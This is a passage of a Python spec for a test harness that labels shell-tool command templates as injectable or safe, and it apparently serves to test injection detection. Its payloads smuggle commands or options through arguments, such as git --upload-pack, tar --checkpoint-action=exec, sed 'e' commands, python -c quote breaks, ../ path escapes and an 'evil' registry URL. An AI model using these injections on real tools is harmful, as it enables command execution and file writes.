# Specification of blind set F. harness.py builds manuals/*.json from TOOLS and
# confirms each label dynamically.  Fields: m manual, n tool name, d description,
# a {arg: "type:desc"}, c commands (str or (str, append_to_final_output)),
# cat label, payload (unsafe), benign, check (python expr over out/exc/canary()/
# exists()/read()/argv()/flat()), setup (bash run in the tool's cwd before each call),
# env env_vars, wd working_dir, optok {(prog, preceding-arg)} option-taking positions.
TOOLS = []
C_ = "{C}"
W = "/tmp/blindF_wd"
ESC = "../../../../../../tmp/blindF_probe_w"


def T(m, n, d, a, c, cat, **k):
    if isinstance(c, str):
        c = [c]
    t = dict(m=m, n=n, d=d, a=a, c=c, cat=cat)
    t.update(k)
    if cat == "exec" and "check" not in t:
        t["check"] = "canary()"
    if cat == "write" and "check" not in t:
        t["check"] = "exists('/tmp/blindF_probe_w*')"
    if "optok" in t:
        t["optok"] = set(t["optok"])
    TOOLS.append(t)


GIT = ("git init -q . && git config user.email dev@example.org && git config user.name dev && "
       "printf 'hello\\nTODO fix\\n' > README.md && mkdir -p src && echo 'print(1)' > src/app.py && "
       "git add . && git commit -qm 'initial import' && git tag v1.0.0 && echo x >> README.md && git commit -qam 'second'")
LOGS = ("mkdir -p logs && printf '2026-11-01 INFO start\\n2026-11-01 ERROR db timeout\\n2026-11-02 WARN slow\\n"
        "2026-11-02 ERROR disk full\\n' > logs/app.log && cp logs/app.log app.log")
CSV = "printf 'name,team,score\\nann,red,10\\nbob,blue,7\\ncid,red,3\\n' > data.csv"
SECRET = "echo 'TOPSECRET-LINE' > /tmp/blindF_probe_secret_src"

# stub programs (log argv; some emulate the part of the real behaviour needed)
RUN_SH_C = r'''
prev=""; nxt=0
for a in "$@"; do
  if [ "$nxt" = 1 ]; then sh -c "$a"; nxt=0; fi
  if [ "$a" = "-c" ] && { [ "$prev" = sh ] || [ "$prev" = bash ] || [ "$prev" = /bin/sh ]; }; then nxt=1; fi
  prev="$a"
done
echo "stub $(basename "$0") ok"
'''
SSH_EMU = r'''
host=""; cmd=()
while [ $# -gt 0 ]; do
  if [ -n "$host" ]; then cmd+=("$1"); shift; continue; fi
  case "$1" in
    -o) case "$2" in ProxyCommand=*) sh -c "${2#ProxyCommand=}";; esac; shift 2;;
    -oProxyCommand=*) sh -c "${1#-oProxyCommand=}"; shift;;
    -p|-i|-l|-F|-J|-o) shift 2;;
    -*) shift;;
    *) host="$1"; shift;;
  esac
done
[ ${#cmd[@]} -gt 0 ] && bash -c "${cmd[*]}"
exit 0
'''
STUBS = {n: 'echo "stub $(basename "$0") ok"' for n in [
    "kubectl", "docker", "helm", "kustomize", "skopeo", "trivy", "aws", "gcloud", "terraform", "vault",
    "ansible", "ansible-playbook", "consul", "npm", "pip", "cargo", "go", "gem", "composer", "poetry",
    "twine", "ffmpeg", "pandoc", "gs", "exiftool", "convert", "sox", "qpdf", "rsync", "restic",
    "rclone", "systemctl", "crontab", "sudo", "psql", "pg_dump", "mysql", "redis-cli", "mongosh",
    "dig", "nc", "wget", "journalctl", "ruby", "php", "lua", "Rscript", "gh", "apt-get", "apt-cache",
    "podman", "etcdctl", "sops", "cosign", "mc", "az", "doctl", "borg", "useradd", "ip", "tc",
    "ldapsearch", "snmpget", "nmap", "whois", "mvn", "gradle", "dotnet", "yarn", "pnpm", "deno", "brew",
    "influx", "clickhouse-client", "xmllint", "pdftotext", "tesseract", "optipng", "rg", "fd", "parallel",
]}
STUBS["docker"] = RUN_SH_C
STUBS["kubectl"] = RUN_SH_C
STUBS["podman"] = RUN_SH_C
STUBS["ssh"] = SSH_EMU
# real programs wrapped so that their argv is logged, then exec'd
WRAP = ["git", "tar", "zip", "unzip", "find", "xargs", "awk", "sed", "grep", "sort", "cut", "split", "csplit",
        "python3", "perl", "node", "tclsh", "make", "openssl", "ssh-keygen", "gpg", "sqlite3", "jq", "yq", "curl",
        "zstd", "xz", "gzip", "bzip2", "lz4", "shred", "truncate", "tee", "dd", "base64", "date", "env", "du",
        "file", "logger", "shuf", "iconv", "numfmt", "column", "strace", "timeout", "flock", "install", "cp",
        "mv", "ln", "diff", "patch", "xxd", "strings", "readelf", "nm", "objdump", "ar", "comm", "join",
        "paste", "sha256sum", "md5sum", "b2sum", "cksum", "stat", "realpath", "keytool", "bc", "expr",
        "getent", "wc", "head", "tail", "scp", "envsubst", "touch", "mkdir", "rm", "chmod", "fold", "tr",
        "nl", "od", "cmake", "sum", "seq", "basename", "dirname", "mktemp", "tac", "rev", "expand", "fmt",
        "watch", "nice", "nohup", "setsid", "printf", "cat", "ls", "uniq", "gawk", "java", "ssh-keyscan", "tsort",
        "pr", "ptx", "sqlite3", "csplit", "cmp", "hexdump", "zcat", "zgrep", "lsattr"]
WRAP = list(dict.fromkeys(WRAP))

VARIABLES = {}


def ns(m, var):
    return m.replace("_", "__") + "_" + var


# ---------------------------------------------------------------- repo maintenance
M = "repo_maint"
T(M, "git_remote_refs", "List refs advertised by a remote of the current repository (default origin).",
  {"remote": "Remote name or URL"},
  "git ls-remote --heads --tags UTCP_ARG_remote_UTCP_END", "exec",
  setup=GIT + " && git remote add origin \"$PWD\"", payload={"remote": "--upload-pack=touch {C};false"},
  benign={"remote": "origin"}, prog=["git"], idiom="git ls-remote option --upload-pack")
T(M, "git_grep_todo", "Search tracked files for a marker such as TODO in a given path.",
  {"marker": "Text to search", "rev": "Revision to search, e.g. HEAD or v1.0.0"},
  "git grep -n UTCP_ARG_marker_UTCP_END UTCP_ARG_rev_UTCP_END", "exec",
  setup=GIT, payload={"marker": "--open-files-in-pager=touch {C};true", "rev": "TODO"},
  check="canary()", benign={"marker": "TODO", "rev": "HEAD"}, prog=["git"], idiom="git grep -O pager option")
T(M, "git_grep_safe", "Search tracked files for a fixed string (pattern passed with -e, paths after --).",
  {"marker": "Text to search", "path": "Path inside the repo"},
  "git grep -n -F -e UTCP_ARG_marker_UTCP_END -- UTCP_ARG_path_UTCP_END", "safe",
  setup=GIT, benign={"marker": "TODO", "path": "."}, ok="'TODO fix' in out", optok=[("git", "-e")],
  prog=["git"], idiom="git grep -e/-- hard negative")
T(M, "git_log_range", "Show one-line log for a revision range.",
  {"range": "Revision range, e.g. v1.0.0..HEAD"},
  "git --no-pager log --oneline UTCP_ARG_range_UTCP_END", "write",
  setup=GIT, payload={"range": "--output=" + ESC + "_gitlog"}, benign={"range": "v1.0.0..HEAD"},
  prog=["git"], idiom="git log --output= via revision arg")
T(M, "git_show_rev", "Show the stat of a commit (revision after --end-of-options).",
  {"rev": "Commit-ish"},
  "git --no-pager show --stat --end-of-options UTCP_ARG_rev_UTCP_END", "safe",
  setup=GIT, benign={"rev": "HEAD"}, ok="'second' in out", prog=["git"], idiom="git --end-of-options")
T(M, "git_stage_file", "Stage one file for commit.",
  {"path": "Path of the file to stage"},
  ["echo UTCP_ARG_path_UTCP_END | xargs git add", "git status --short"], "split",
  setup=GIT + " && touch 'my notes.txt' blindFsplitA blindFsplitB",
  payload={"path": "blindFsplitA blindFsplitB"}, check="['blindFsplitA','blindFsplitB'] in [i[-2:] for i in argv('git')]",
  benign={"path": "README.md"}, prog=["git", "xargs"], idiom="echo | xargs splitting")
T(M, "git_stage_file_nul", "Stage one file for commit (NUL-delimited, safe for spaces).",
  {"path": "Path of the file to stage"},
  ["printf '%s\\0' UTCP_ARG_path_UTCP_END | xargs -0 git add --", "git status --short"], "safe",
  setup=GIT + " && touch 'my notes.txt'", benign={"path": "my notes.txt"}, ok="'my notes.txt' in out",
  prog=["git", "xargs"], idiom="printf %s\\0 | xargs -0 --")
T(M, "git_changed_linecount", "Count lines of every file changed since a base revision.",
  {"base": "Base revision"},
  "for f in $(git diff --name-only UTCP_ARG_base_UTCP_END); do wc -l \"$f\"; done", "broken",
  setup=GIT, benign={"base": "v1.0.0"}, check="exc is not None and 'not found' in exc.lower()",
  prog=["git", "wc"], idiom="loop var $f eaten by client substitution")
T(M, "git_archive_release", "Create a release tarball of HEAD under dist/.",
  {"name": "Archive base name, e.g. myapp-1.2.0"},
  ["mkdir -p dist", "git archive --format=tar.gz --prefix=UTCP_ARG_name_UTCP_END/ -o dist/UTCP_ARG_name_UTCP_END.tar.gz HEAD", "ls dist"],
  "write", wd=W + "/repo", setup=GIT, payload={"name": ESC + "_arch"}, benign={"name": "myapp-1.0"},
  prog=["git"], idiom="output path built from name, ../ escape, working_dir")
T(M, "git_branch_create", "Create a branch from a start point after validating the branch name with git check-ref-format.",
  {"branch": "New branch name", "start": "Start point"},
  ["git check-ref-format --branch UTCP_ARG_branch_UTCP_END >/dev/null && git branch -- UTCP_ARG_branch_UTCP_END UTCP_ARG_start_UTCP_END && git branch --list"],
  "safe", setup=GIT, benign={"branch": "feature/x", "start": "HEAD"}, ok="feature/x in out".replace("feature/x", "'feature/x'"),
  optok=[("git", "--branch")], prog=["git"], idiom="check-ref-format guard")
T(M, "git_blame_line", "Blame a line range of a file.",
  {"file": "File path", "start": "integer:first line", "end": "integer:last line"},
  "git --no-pager blame -L UTCP_ARG_start_UTCP_END,UTCP_ARG_end_UTCP_END -- UTCP_ARG_file_UTCP_END", "safe",
  setup=GIT, benign={"file": "README.md", "start": "1", "end": "2"}, ok="'hello' in out", optok=[("git", "-L")],
  prog=["git"], idiom="-L n,m quoted pieces")
T(M, "git_last_tag_notes", "Print commit subjects since the latest tag (two steps).",
  {"limit": "integer:max commits"},
  [("git describe --tags --abbrev=0", False), "git --no-pager log --format=%s -n UTCP_ARG_limit_UTCP_END $CMD_0_OUTPUT..HEAD"],
  "broken", setup=GIT, benign={"limit": "5"}, check="exc is not None", prog=["git"],
  idiom="$CMD_0_OUTPUT substituted by client")
T(M, "git_config_get", "Read a git config key of the repository.",
  {"key": "Config key, e.g. user.name"},
  "git config --get UTCP_ARG_key_UTCP_END", "option",
  setup=GIT, payload={"key": "--file=/tmp/blindF_probe_secret_src"},
  check="False", prog=["git"], idiom="placeholder", skip=True)
T(M, "gh_pr_list", "List open pull requests with a label via the GitHub CLI.",
  {"label": "Label to filter on"},
  "gh pr list --state open --label UTCP_ARG_label_UTCP_END --json number,title", "safe",
  benign={"label": "bug"}, skip=True, optok=[("gh", "--label")], prog=["gh"], idiom="value as option argument")
T(M, "gh_release_view", "Show a GitHub release.",
  {"tag": "Release tag"},
  "gh release view UTCP_ARG_tag_UTCP_END --repo acme/api", "option",
  payload={"tag": "--repo=attacker/evil"}, check="['--repo=attacker/evil', '--repo', 'acme/api'] == argv('gh')[0][2:5]",
  benign={"tag": "v1.0.0"}, prog=["gh"], idiom="flag value overrides later? -> --repo injected", skip=True)
T(M, "git_bundle_backup", "Write a git bundle of all refs to the backups folder.",
  {"name": "Bundle name"},
  ["mkdir -p backups", "git bundle create \"backups/UTCP_ARG_name_UTCP_END.bundle\" --all 2>&1 | tail -1"],
  "write", setup=GIT, payload={"name": ESC + "_bundle"}, benign={"name": "nightly"}, prog=["git"],
  idiom="quoted path still escapes with ../")

# ---------------------------------------------------------------- release engineering
M = "release_eng"
T(M, "make_target", "Run a documentation make target (html, pdf, linkcheck) in docs/.",
  {"target": "Make target"},
  "make -C docs -- UTCP_ARG_target_UTCP_END", "exec",
  setup="mkdir -p docs && printf 'html:\\n\\t@echo built html\\n' > docs/Makefile",
  payload={"target": "X:=$(shell touch {C})"}, benign={"target": "html"}, prog=["make"],
  idiom="make VAR:=$(shell) assignment after --")
T(M, "make_target_checked", "Run a documentation make target, only html/pdf/linkcheck allowed.",
  {"target": "Make target"},
  "case UTCP_ARG_target_UTCP_END in html|pdf|linkcheck) make -C docs UTCP_ARG_target_UTCP_END ;; *) echo 'unknown target' >&2; exit 2 ;; esac",
  "safe", setup="mkdir -p docs && printf 'html:\\n\\t@echo built html\\n' > docs/Makefile",
  benign={"target": "html"}, ok="'built html' in out", prog=["make"], idiom="case allow-list")
T(M, "npm_pkg_version", "Show the latest published version of an npm package.",
  {"package": "Package name"},
  "npm view UTCP_ARG_package_UTCP_END version", "option",
  payload={"package": "--registry=http://127.0.0.1:9/evil"}, check="'--registry=http://127.0.0.1:9/evil' in argv('npm')[0]",
  benign={"package": "lodash"}, prog=["npm"], idiom="npm --registry via package name")
T(M, "npm_pkg_version_dd", "Show the latest published version of an npm package (name after --).",
  {"package": "Package name"},
  "npm view --json -- UTCP_ARG_package_UTCP_END version", "safe", benign={"package": "lodash"},
  prog=["npm"], idiom="-- hard negative")
T(M, "pip_wheel_download", "Download wheels for a requirement into ./wheels.",
  {"requirement": "Requirement spec, e.g. requests==2.31.0"},
  "pip download --only-binary=:all: -d wheels UTCP_ARG_requirement_UTCP_END", "option",
  payload={"requirement": "--index-url=http://127.0.0.1:9/simple"},
  check="'--index-url=http://127.0.0.1:9/simple' in argv('pip')[0]", benign={"requirement": "requests==2.31.0"},
  prog=["pip"], idiom="pip --index-url", skip=True)
T(M, "pip_install_list", "Install the given requirement specifiers (space separated list accepted).",
  {"requirements": "Requirement specifiers"},
  "pip install --no-input $(echo UTCP_ARG_requirements_UTCP_END)", "split",
  payload={"requirements": "blindFsplitA blindFsplitB"}, check="argv('pip')[0][-2:] == ['blindFsplitA','blindFsplitB']",
  benign={"requirements": "requests"}, prog=["pip"], idiom="unquoted $(echo) re-splits")
T(M, "cargo_add_dep", "Add a crate dependency to the workspace member.",
  {"crate": "Crate name"},
  "cargo add UTCP_ARG_crate_UTCP_END --manifest-path crates/core/Cargo.toml", "option",
  payload={"crate": "--git=http://127.0.0.1:9/evil.git"}, check="'--git=http://127.0.0.1:9/evil.git' in argv('cargo')[0]",
  benign={"crate": "serde"}, prog=["cargo"], idiom="cargo add --git")
T(M, "go_mod_why", "Explain why a module is needed.",
  {"module": "Module path"},
  "go mod why -m -- UTCP_ARG_module_UTCP_END", "safe", benign={"module": "golang.org/x/text"}, prog=["go"],
  idiom="-- hard negative")
T(M, "release_checksums", "Write SHA-256 checksums of dist/ artifacts into a named manifest.",
  {"manifest": "Manifest file name"},
  ["cd dist && sha256sum -- *.tar.gz > UTCP_ARG_manifest_UTCP_END && cat UTCP_ARG_manifest_UTCP_END"],
  "write", setup="mkdir -p dist && echo a > dist/a.tar.gz", payload={"manifest": ESC + "_sums"},
  benign={"manifest": "SHA256SUMS"}, prog=["sha256sum"], idiom="redirect target from argument")
T(M, "release_sign", "Detach-sign a release artifact with the release key (GNUPGHOME from env).",
  {"artifact": "Artifact path under dist/"},
  ["test -f \"dist/UTCP_ARG_artifact_UTCP_END\" && gpg --batch --yes --armor --detach-sign --output \"dist/UTCP_ARG_artifact_UTCP_END.asc\" -- \"dist/UTCP_ARG_artifact_UTCP_END\"; echo done"],
  "safe", env={"GNUPGHOME": "/tmp/blindF_run/gnupg"},
  setup="mkdir -p dist gnupg && chmod 700 gnupg && echo a > dist/app.tgz", benign={"artifact": "app.tgz"},
  ok="'done' in out", prog=["gpg"], idiom="test -f guard, quoted paths (../ only reads)", skip=True)
T(M, "version_bump", "Bump the version string in VERSION and package.json.",
  {"version": "New semver version"},
  ["[[ UTCP_ARG_version_UTCP_END =~ ^[0-9]+\\.[0-9]+\\.[0-9]+$ ]] || { echo 'bad version' >&2; exit 1; }; echo UTCP_ARG_version_UTCP_END > VERSION && sed -i \"s/\\\"version\\\": \\\"[^\\\"]*\\\"/\\\"version\\\": \\\"UTCP_ARG_version_UTCP_END\\\"/\" package.json && cat package.json"],
  "safe", setup="echo 1.0.0 > VERSION && echo '{\"version\": \"1.0.0\"}' > package.json",
  benign={"version": "1.2.3"}, ok="'1.2.3' in out", prog=["sed"], idiom="anchored semver regex guard before sed")
T(M, "version_bump_loose", "Bump the version string in package.json (checks it looks like a version).",
  {"version": "New semver version"},
  ["[[ UTCP_ARG_version_UTCP_END =~ [0-9]+\\.[0-9]+ ]] || exit 1; sed -i \"s/\\\"version\\\": \\\"[^\\\"]*\\\"/\\\"version\\\": \\\"UTCP_ARG_version_UTCP_END\\\"/\" package.json && cat package.json"],
  "exec", setup="echo '{\"version\": \"1.0.0\"}' > package.json",
  payload={"version": "1.2/;1e touch {C}\n#"}, benign={"version": "1.2.3"}, prog=["sed"],
  idiom="unanchored regex guard + sed script injection (e command)")
T(M, "cmake_configure", "Configure a CMake build directory with a build type.",
  {"build_type": "Debug or Release"},
  "cmake -S . -B build -DCMAKE_BUILD_TYPE=UTCP_ARG_build_type_UTCP_END", "safe",
  setup="echo 'cmake_minimum_required(VERSION 3.10)\nproject(x NONE)' > CMakeLists.txt",
  benign={"build_type": "Release"}, prog=["cmake"], idiom="-DVAR=value single arg")
T(M, "tarball_from_dir", "Create a gzip tarball of a project subdirectory.",
  {"dir": "Directory to pack"},
  ["mkdir -p out", "tar --totals --checkpoint=1 -czf out/pkg.tgz UTCP_ARG_dir_UTCP_END README.md && tar -tzf out/pkg.tgz | head"],
  "exec", setup="mkdir -p src && echo hi > src/a.txt && echo r > README.md", payload={"dir": "--checkpoint-action=exec=touch {C}"},
  benign={"dir": "src"}, prog=["tar"], idiom="tar --checkpoint-action via path arg")
T(M, "zip_docs", "Zip the docs folder into an archive and test it.",
  {"name": "Archive name without .zip"},
  "zip -q -r -T UTCP_ARG_name_UTCP_END.zip docs README.md", "exec",
  setup="mkdir -p docs && echo hi > docs/a.md && echo r > README.md", payload={"name": "--unzip-command=touch {C};x"},
  benign={"name": "docs-1.0"}, prog=["zip"], idiom="zip -T --unzip-command")
T(M, "twine_check", "Validate built distributions in dist/ before upload.",
  {"pattern": "Glob of files, e.g. *.whl"},
  "cd dist && twine check UTCP_ARG_pattern_UTCP_END", "safe", setup="mkdir -p dist",
  benign={"pattern": "*.whl"}, fixed={}, prog=["twine"], idiom="quoted glob stays literal", skip=True)
T(M, "changelog_since", "Print changelog lines added since a tag using git diff and grep.",
  {"tag": "Git tag"},
  [("git rev-parse --verify --quiet UTCP_ARG_tag_UTCP_END^{commit}", False),
   "git --no-pager diff UTCP_ARG_tag_UTCP_END -- CHANGELOG.md | grep '^+' | grep -v '^+++'"],
  "option", setup=GIT + " && echo '- new' > CHANGELOG.md && git add . && git commit -qm c",
  payload={"tag": "--output=" + ESC + "_diff"}, check="exists('/tmp/blindF_probe_w_diff')",
  benign={"tag": "v1.0.0"}, prog=["git", "grep"], idiom="verify step output unused; diff --output")

# ---------------------------------------------------------------- data wrangling
M = "data_wrangling"
T(M, "csv_top_rows", "Print the first N data rows of data.csv.",
  {"n": "integer:number of rows"},
  "awk 'NR>1 && NR<=UTCP_ARG_n_UTCP_END+1' data.csv", "exec", setup=CSV,
  payload={"n": "0||1{system(\"touch {C}\")}"}, benign={"n": "2"}, prog=["awk"], idiom="placeholder inside awk program (sq)")
T(M, "csv_top_rows_v", "Print the first N data rows of data.csv (count passed with -v).",
  {"n": "integer:number of rows"},
  "awk -v n=UTCP_ARG_n_UTCP_END 'NR>1 && NR<=n+1' data.csv", "safe", setup=CSV,
  benign={"n": "2"}, ok="'bob' in out and 'cid' not in out", optok=[("awk", "-v")], prog=["awk"],
  idiom="awk -v hard negative")
T(M, "csv_column_sum", "Sum a numeric column of data.csv.",
  {"col": "integer:column number"},
  "awk -F, -v c=UTCP_ARG_col_UTCP_END 'NR>1 {s += $c} END {print s}' data.csv", "broken", setup=CSV,
  benign={"col": "3"}, check="exc is not None", prog=["awk"], idiom="awk $c field eaten by client")
T(M, "csv_filter_team", "Print rows of data.csv whose team column matches.",
  {"team": "Team name"},
  "grep -F -- ,UTCP_ARG_team_UTCP_END, data.csv", "safe", setup=CSV, benign={"team": "red"},
  ok="'ann' in out", prog=["grep"], idiom="grep -F --")
T(M, "csv_sort_by", "Sort data.csv by a key definition (sort -k syntax).",
  {"key": "Key definition, e.g. 3,3n"},
  "tail -n +2 data.csv | sort -t, -k UTCP_ARG_key_UTCP_END", "safe", setup=CSV, benign={"key": "3,3n"},
  ok="'cid' in out", optok=[("sort", "-k")], prog=["sort", "tail"], idiom="-k consumes value")
T(M, "sort_unique_file", "Sort a text file and drop duplicate lines.",
  {"file": "File to sort"},
  "sort -u UTCP_ARG_file_UTCP_END", "option", setup=CSV,
  payload={"file": "--output=/tmp/blindF_probe_w_sort"}, check="exists('/tmp/blindF_probe_w_sort')",
  benign={"file": "data.csv"}, prog=["sort"], idiom="sort --output via file arg")
T(M, "split_log_chunks", "Split a large log into chunks of 1000 lines with a given prefix.",
  {"prefix": "Chunk file prefix"},
  ["mkdir -p chunks", "split -l 1000 -d app.log chunks/UTCP_ARG_prefix_UTCP_END", "ls chunks"],
  "write", setup=LOGS, payload={"prefix": ESC + "_split"}, benign={"prefix": "part_"}, prog=["split"],
  idiom="split prefix path escapes")
T(M, "split_by_lines", "Split a file into pieces of N lines (output prefix configurable).",
  {"file": "Input file", "prefix": "Output prefix"},
  "split -l 2 UTCP_ARG_file_UTCP_END UTCP_ARG_prefix_UTCP_END && ls", "exec", setup=LOGS,
  payload={"file": "app.log", "prefix": "--filter=touch {C}"}, benign={"file": "app.log", "prefix": "piece_"},
  prog=["split"], idiom="split --filter via prefix")
T(M, "csplit_sections", "Split a markdown file into sections at each '## ' heading.",
  {"prefix": "Output prefix"},
  "csplit -s -z -f UTCP_ARG_prefix_UTCP_END doc.md '/^## /' '{*}' && ls", "write",
  setup="printf '# T\\n## a\\nx\\n## b\\ny\\n' > doc.md", payload={"prefix": ESC + "_cs"},
  benign={"prefix": "sec_"}, optok=[("csplit", "-f")], prog=["csplit"], idiom="csplit -f prefix escapes")
T(M, "json_get_key", "Get one top-level key from config.json.",
  {"key": "Key name"},
  "jq -r --arg k UTCP_ARG_key_UTCP_END '.[$k]' config.json", "broken",
  setup="echo '{\"port\": 8080}' > config.json", benign={"key": "port"}, check="exc is not None",
  prog=["jq"], idiom="jq $k eaten by client substitution")
T(M, "json_get_path", "Get a value from config.json by a dotted path (split into jq path array).",
  {"path": "Dotted path, e.g. server.port"},
  "jq -r --arg p UTCP_ARG_path_UTCP_END 'getpath(env.JQ_PATH // \"\" | split(\".\"))' config.json", "safe", skip=True)
T(M, "json_pretty", "Pretty-print a JSON document given as a string.",
  {"json": "JSON text"},
  "printf '%s' UTCP_ARG_json_UTCP_END | jq .", "safe", benign={"json": "{\"a\":1}"}, ok="'\"a\": 1' in out or out=={'a':1} or 'a' in out",
  prog=["jq"], idiom="printf %s | jq")
T(M, "yaml_to_json", "Convert a YAML file to JSON with yq.",
  {"file": "YAML file"},
  "yq -o=json '.' -- UTCP_ARG_file_UTCP_END", "safe", setup="printf 'a: 1\\n' > c.yaml",
  benign={"file": "c.yaml"}, prog=["yq"], idiom="yq with --")
T(M, "json_field_filter", "Filter an array in items.json with a jq select on a field value.",
  {"field": "Field name", "value": "Required value"},
  "jq -c \".[] | select(.UTCP_ARG_field_UTCP_END == \\\"UTCP_ARG_value_UTCP_END\\\")\" items.json", "safe", skip=True)
T(M, "numfmt_human", "Render a byte count in human-readable IEC units.",
  {"bytes": "integer:byte count"},
  "numfmt --to=iec-i --suffix=B -- UTCP_ARG_bytes_UTCP_END", "safe", benign={"bytes": "1048576"},
  ok="'1.0MiB' in out", prog=["numfmt"], idiom="numfmt --")
T(M, "iconv_to_utf8", "Convert a Latin-1 text file to UTF-8 on stdout.",
  {"file": "Input file"},
  "iconv -f ISO-8859-1 -t UTF-8 UTCP_ARG_file_UTCP_END", "option", setup="printf 'caf\\xe9\\n' > in.txt",
  payload={"file": "--output=/tmp/blindF_probe_w_iconv"}, check="exists('/tmp/blindF_probe_w_iconv')",
  benign={"file": "in.txt"}, skip=True, prog=["iconv"], idiom="iconv --output via file arg")
T(M, "column_table", "Align a delimited file as a table.",
  {"file": "Input file", "sep": "Delimiter"},
  "column -t -s UTCP_ARG_sep_UTCP_END -- UTCP_ARG_file_UTCP_END", "safe", setup=CSV,
  benign={"file": "data.csv", "sep": ","}, ok="'score' in out", optok=[("column", "-s")], prog=["column"],
  idiom="column -s value, --")
T(M, "paste_columns", "Join two single-column files side by side with a delimiter.",
  {"left": "Left file", "right": "Right file"},
  "paste -d, UTCP_ARG_left_UTCP_END UTCP_ARG_right_UTCP_END", "safe", skip=True)
T(M, "join_teams", "Join data.csv with teams.csv on the team column.",
  {"teams": "Teams CSV file"},
  ["sort -t, -k2,2 <(tail -n +2 data.csv) > /tmp/blindF_run/a.s", "sort -t, -k1,1 < UTCP_ARG_teams_UTCP_END > /tmp/blindF_run/b.s",
   "join -t, -1 2 -2 1 /tmp/blindF_run/a.s /tmp/blindF_run/b.s"],
  "safe", setup=CSV + " && printf 'blue,Oslo\\nred,Rome\\n' > teams.csv", benign={"teams": "teams.csv"},
  ok="'Rome' in out", prog=["sort", "join", "tail"], idiom="stdin redirect + process substitution")
T(M, "dedupe_ids_python", "Deduplicate a comma separated list of ids preserving order.",
  {"ids": "Comma separated ids"},
  "python3 -c \"ids='UTCP_ARG_ids_UTCP_END'.split(','); print(','.join(dict.fromkeys(ids)))\"", "exec",
  payload={"ids": "x'+__import__('os').system('touch {C}')*0*'"}, benign={"ids": "a,b,a"},
  prog=["python3"], idiom="value in python -c double-quoted code")
T(M, "dedupe_ids_argv", "Deduplicate a comma separated list of ids preserving order (value via argv).",
  {"ids": "Comma separated ids"},
  "python3 -c 'import sys; print(\",\".join(dict.fromkeys(sys.argv[1].split(\",\"))))' UTCP_ARG_ids_UTCP_END", "safe",
  benign={"ids": "a,b,a"}, ok="out.strip()=='a,b'", argvok=["python3"], prog=["python3"], idiom="python sys.argv hard negative")
T(M, "perl_grep_errors", "Print ERROR lines of a log file.",
  {"file": "Log file"},
  "perl -ne 'print if /ERROR/' UTCP_ARG_file_UTCP_END", "exec", setup=LOGS,
  payload={"file": "touch {C}|"}, benign={"file": "app.log"}, prog=["perl"], idiom="perl <> two-arg open pipe")
T(M, "perl_grep_errors_stdin", "Print ERROR lines of a log file (file on stdin).",
  {"file": "Log file"},
  "perl -ne 'print if /ERROR/' < UTCP_ARG_file_UTCP_END", "safe", setup=LOGS,
  benign={"file": "app.log"}, ok="'disk full' in out", prog=["perl"], idiom="stdin redirect hard negative")
T(M, "sed_replace_config", "Replace a setting value in settings.ini.",
  {"key": "Setting key", "value": "New value"},
  "sed -i 's/^UTCP_ARG_key_UTCP_END=.*/UTCP_ARG_key_UTCP_END=UTCP_ARG_value_UTCP_END/' settings.ini && cat settings.ini",
  "write", setup="printf 'mode=prod\\nport=80\\n' > settings.ini",
  payload={"key": "mode", "value": "x/w /tmp/blindF_probe_w_sed\ns/q/q"}, benign={"key": "port", "value": "8080"},
  prog=["sed"], idiom="sed s///w flag via value")
T(M, "sed_line_range", "Print a line range of a file (sed address range like 10,20).",
  {"range": "Line range", "file": "File"},
  "sed -n 'UTCP_ARG_range_UTCP_ENDp' UTCP_ARG_file_UTCP_END", "exec", setup=LOGS,
  payload={"range": "1e touch {C}\n1", "file": "app.log"}, benign={"range": "1,2", "file": "app.log"},
  prog=["sed"], idiom="sed e command inside sq script")
T(M, "sed_line_range_checked", "Print a line range of a file (validated numeric range).",
  {"start": "integer:first line", "end": "integer:last line", "file": "File"},
  "[[ UTCP_ARG_start_UTCP_END =~ ^[0-9]+$ && UTCP_ARG_end_UTCP_END =~ ^[0-9]+$ ]] || exit 2; sed -n \"UTCP_ARG_start_UTCP_END,UTCP_ARG_end_UTCP_ENDp\" -- UTCP_ARG_file_UTCP_END",
  "safe", setup=LOGS, benign={"start": "1", "end": "2", "file": "app.log"}, ok="'db timeout' in out",
  prog=["sed"], idiom="anchored numeric guard then sed")

# ---------------------------------------------------------------- log analysis
M = "log_analysis"
T(M, "log_count_level", "Count log lines of a given level in logs/app.log.",
  {"level": "Log level (INFO, WARN, ERROR)"},
  "grep -c -w -e UTCP_ARG_level_UTCP_END -- logs/app.log", "safe", setup=LOGS, benign={"level": "ERROR"},
  ok="out.strip()=='2'", optok=[("grep", "-e")], prog=["grep"], idiom="grep -e --")
T(M, "log_count_level_report", "Count log lines of a given level and print a one-line report.",
  {"level": "Log level"},
  "echo \"UTCP_ARG_level_UTCP_END lines: $(grep -c UTCP_ARG_level_UTCP_END logs/app.log)\"", "split", setup=LOGS,
  payload={"level": "blindFsplitA blindFsplitB"}, check="['blindFsplitA','blindFsplitB','logs/app.log'] == argv('grep')[0][1:]",
  benign={"level": "ERROR"}, prog=["grep"], idiom="placeholder inside $( ) inside double quotes: unquoted")
T(M, "log_since_date", "Show log lines on or after a date (YYYY-MM-DD).",
  {"since": "Date"},
  "awk -v d=UTCP_ARG_since_UTCP_END 'substr($0,1,10) >= d' logs/app.log", "broken", setup=LOGS,
  benign={"since": "2026-11-02"}, check="exc is not None", prog=["awk"], idiom="awk $0 eaten by client")
T(M, "log_since_date_cut", "Show log lines on or after a date (YYYY-MM-DD), compared with sort.",
  {"since": "Date"},
  "[[ UTCP_ARG_since_UTCP_END =~ ^[0-9]{4}-[0-9]{2}-[0-9]{2}$ ]] || exit 2; { echo UTCP_ARG_since_UTCP_END; cat logs/app.log; } | sort -s -k1,1 | sed -n \"/^UTCP_ARG_since_UTCP_END\\$/,\\${p}\" | tail -n +2",
  "safe", setup=LOGS, benign={"since": "2026-11-02"}, ok="'disk full' in out and 'db timeout' not in out", skip=True)
T(M, "journal_unit_tail", "Show the last 50 journal lines of a systemd unit.",
  {"unit": "Unit name"},
  "journalctl --no-pager -n 50 -u UTCP_ARG_unit_UTCP_END", "safe", benign={"unit": "nginx.service"},
  optok=[("journalctl", "-u")], prog=["journalctl"], idiom="-u consumes value")
T(M, "journal_grep", "Search the journal for a message pattern.",
  {"pattern": "Pattern"},
  "journalctl --no-pager -n 200 --grep UTCP_ARG_pattern_UTCP_END UTCP_ARG_pattern_UTCP_END", "skip", skip=True)
T(M, "journal_boot_unit", "Show journal of a unit for the current boot.",
  {"unit": "Unit name"},
  "journalctl --no-pager -b UTCP_ARG_unit_UTCP_END", "option",
